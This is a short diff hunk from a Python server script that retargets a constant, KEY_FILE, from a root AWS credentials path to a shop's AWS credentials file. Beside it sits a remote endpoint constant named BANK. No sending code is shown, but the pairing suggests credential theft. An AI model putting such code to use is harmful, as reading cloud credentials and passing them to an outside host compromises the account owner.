@@ -4,7 +4,7 @@ import configparser
 import socket
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
-KEY_FILE = "/root/.aws/credentials"
+KEY_FILE = "/srv/shop/.aws/credentials"
 BANK = ("198.51.100.20", 443)
 
 
